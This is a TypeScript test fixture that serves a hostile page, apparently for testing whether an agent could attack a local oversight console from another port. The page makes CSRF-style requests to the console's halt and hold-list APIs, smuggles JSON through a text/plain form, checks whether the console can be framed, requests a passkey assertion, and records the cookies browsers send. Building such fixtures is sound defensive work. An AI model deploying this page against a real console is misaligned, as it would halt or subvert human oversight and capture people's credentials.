/** A page that an agent serves on another port of this host, and that a person opens: it tries all it can against the console. */
import { createServer } from 'node:http'

export interface Evil {
  readonly url: string
  /** What browsers handed it. */
  readonly cookies: readonly string[]
  readonly close: () => Promise<void>
}

const page = (origin: string): string => `<!doctype html><title>My app</title>
<iframe id="frame" src="${origin}/"></iframe>
<form id="form" method="post" action="${origin}/api/halt" enctype="text/plain" target="frame"><input name="{&quot;who&quot;:&quot;all&quot;,&quot;reason&quot;:&quot;" value="&quot;}"></form>
<script>
const bytes = (text) => Uint8Array.from(atob(text.replaceAll('-', '+').replaceAll('_', '/')), (c) => c.charCodeAt(0))
const text = (buffer) => btoa(String.fromCharCode(...new Uint8Array(buffer))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
async function attack(challenge) {
  const ask = (mode, headers) => fetch('${origin}/api/hold-list', { method: 'POST', mode, credentials: 'include', headers, body: '{"all":true}' })
  let status = 'blocked'
  for (const [mode, headers] of [['cors', { 'content-type': 'application/json', 'x-firebreak': '1' }], ['no-cors', {}]]) {
    try { const answer = await ask(mode, headers); if (answer.type !== 'opaque') status = String(answer.status) } catch {}
  }
  document.getElementById('form').submit()
  let framed = false
  try { framed = document.getElementById('frame').contentDocument?.querySelector('main') != null } catch {}
  // A host's passkeys answer on each of its ports: the person only has to touch the key.
  const { id, response } = await navigator.credentials.get({ publicKey: { challenge: bytes(challenge), rpId: 'localhost', userVerification: 'required' } })
  const { clientDataJSON, authenticatorData, signature } = response
  return { status, framed, assertion: { id, clientDataJSON: text(clientDataJSON), authenticatorData: text(authenticatorData), signature: text(signature) } }
}
</script>`

export async function openEvil(origin: string): Promise<Evil> {
  const cookies: string[] = []
  const server = createServer((incoming, outgoing) => {
    if (incoming.headers.cookie !== undefined) cookies.push(incoming.headers.cookie)
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(page(origin))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  const port = typeof address === 'object' ? (address?.port ?? 0) : 0
  return {
    url: `http://localhost:${port}/`,
    cookies,
    close: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
